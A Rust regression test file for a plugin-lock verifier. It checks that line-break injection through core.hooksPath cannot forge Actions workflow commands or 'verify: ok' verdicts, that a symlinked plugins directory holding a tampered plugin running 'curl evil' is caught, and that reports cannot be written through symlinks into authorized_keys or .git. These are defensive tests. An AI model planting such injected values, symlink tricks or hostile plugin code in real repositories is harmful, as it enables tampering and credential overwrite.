//! Issue 16, second look: variants of each class that the first fixes' tests did not
//! build, found by attacking the merged binary.
use crate::util::*;

/// Every line of `text` a terminal or the Actions runner would read as one a
/// repository chose: a workflow command, or a forged verdict.
fn forged_lines(text: &str) -> Vec<&str> {
    text.split(['\n', '\r'])
        .filter(|l| l.trim_start().starts_with("::") || l.starts_with("verify: ok"))
        .collect()
}

#[test]
fn a_hooks_path_with_line_breaks_prints_no_line_of_its_choosing() {
    let repo = two_plugins();
    let hooks = "hooks\n::error file=forged.py::forged\rverify: ok\n";
    repo.git(&["config", "core.hooksPath", hooks]);
    let bin = path_with_bin();
    for args in [
        &["hook", "install"][..],
        &["hook", "install"],
        &["hook", "uninstall"],
        &["hook", "uninstall"],
    ] {
        let out = run_env(repo.path(), args, &[("PATH", &bin)]);
        assert_eq!(code(&out), 0, "{args:?}: {}", stderr(&out));
        for (stream, text) in [("stdout", stdout(&out)), ("stderr", stderr(&out))] {
            let forged = forged_lines(&text);
            assert!(
                forged.is_empty(),
                "{args:?} {stream}: {forged:?} in\n{text}"
            );
        }
    }
}

#[test]
fn a_plugins_directory_replaced_by_a_symlink_cannot_pass_as_no_plugins() {
    // Locked and pushed; then `plugins` becomes a link to a tree the globs never see,
    // holding a tampered copy a loader reads through the link.
    let repo = two_plugins();
    let remote = tempfile::tempdir().expect("temp dir");
    git_in(remote.path(), &["init", "-q", "--bare", "-b", "main"]);
    let url = remote.path().to_str().expect("UTF-8 temp path");
    repo.git(&["remote", "add", "origin", url]);
    let bin = path_with_bin();
    let env = [("PATH", bin.as_str())];
    let out = run_env(repo.path(), &["hook", "install"], &env);
    assert_eq!(code(&out), 0, "install: {}", stderr(&out));
    let out = git_env(repo.path(), &["push", "-q", "origin", "HEAD:main"], &env);
    assert_eq!(code(&out), 0, "first push: {}", stderr(&out));
    let pushed = git_in(remote.path(), &["rev-parse", "main"]);

    let lock = repo.read("plugins/PLUGINS.lock");
    repo.git(&["rm", "-r", "-q", "--cached", "plugins"]);
    repo.stage("vendored/PLUGINS.lock", "100644", &lock);
    repo.stage(
        "vendored/alpha/plugin.yaml",
        "100644",
        b"name: alpha\nversion: 1.0.0\n",
    );
    repo.stage(
        "vendored/alpha/src/main.py",
        "100644",
        b"import os; os.system('curl evil')\n",
    );
    repo.stage("plugins", "120000", b"vendored");
    repo.commit_index("vendor the plugins");

    for args in [
        &["verify", "--format", "json"][..],
        &["verify", "--format", "json", "--cache"],
        &["verify", "--format", "json", "--cache"],
    ] {
        let out = run_env(repo.path(), args, &[]);
        assert_eq!(code(&out), 4, "{args:?}: {}{}", stdout(&out), stderr(&out));
        let doc = json(&out);
        assert!(
            doc["findings"]
                .as_array()
                .expect("findings")
                .iter()
                .any(|f| f["kind"] == "lock_malformed" && f.to_string().contains("symlink")),
            "{args:?}: {doc:#}"
        );
    }
    for format in ["human", "github", "sarif"] {
        let out = run_env(repo.path(), &["verify", "--format", format], &[]);
        assert_eq!(code(&out), 4, "{format}: {}{}", stdout(&out), stderr(&out));
    }
    let out = git_env(repo.path(), &["push", "-q", "origin", "HEAD:main"], &env);
    assert_ne!(code(&out), 0, "the hook lets it through: {}", stderr(&out));
    assert_eq!(git_in(remote.path(), &["rev-parse", "main"]), pushed);
}

#[test]
fn a_report_path_through_a_repository_symlink_or_into_git_writes_nothing() {
    // A committed `reports -> <victim>`: the CI's `--report reports/verify.json` (or any
    // spelling of it) must not land in the victim directory, and no spelling of a path
    // in `.git` may replace the repository's own files.
    let victim = tempfile::tempdir().expect("temp dir");
    std::fs::write(
        victim.path().join("authorized_keys"),
        "ssh-ed25519 AAAA me\n",
    )
    .expect("write");
    let origin = two_plugins();
    origin.stage(
        "reports",
        "120000",
        victim.path().to_str().expect("UTF-8").as_bytes(),
    );
    origin.stage("sub/keep", "100644", b"");
    origin.commit_index("reports");
    let dir = tempfile::tempdir().expect("temp dir");
    let url = format!("file://{}", origin.path().display());
    git_in(dir.path(), &["clone", "-q", &url, "clone"]);
    let clone = dir.path().join("clone");
    let config = std::fs::read(clone.join(".git/config")).expect("config");
    for report in [
        "reports/authorized_keys",
        "reports/verify.json",
        "sub/../reports/verify.json",
        "./reports/../reports/verify.json",
        ".git/config",
        "sub/../.git/config",
        ".git/hooks/pre-push",
    ] {
        let out = run_env(&clone, &["verify", "--report", report], &[]);
        assert_eq!(code(&out), 2, "--report {report}: {}", stderr(&out));
        assert!(
            stderr(&out).contains("refusing"),
            "{report}: {}",
            stderr(&out)
        );
    }
    let mut left: Vec<_> = std::fs::read_dir(victim.path())
        .expect("victim dir")
        .map(|e| e.expect("entry").file_name())
        .collect();
    left.sort();
    assert_eq!(left, ["authorized_keys"]);
    assert_eq!(
        std::fs::read(victim.path().join("authorized_keys")).expect("read"),
        b"ssh-ed25519 AAAA me\n"
    );
    assert_eq!(
        std::fs::read(clone.join(".git/config")).expect("config"),
        config
    );
    assert!(!clone.join(".git/hooks/pre-push").exists());
    // A report where the user asks, outside the repository's links, is written.
    let out = run_env(&clone, &["verify", "--report", "sub/verify.json"], &[]);
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    assert!(clone.join("sub/verify.json").is_file());
}
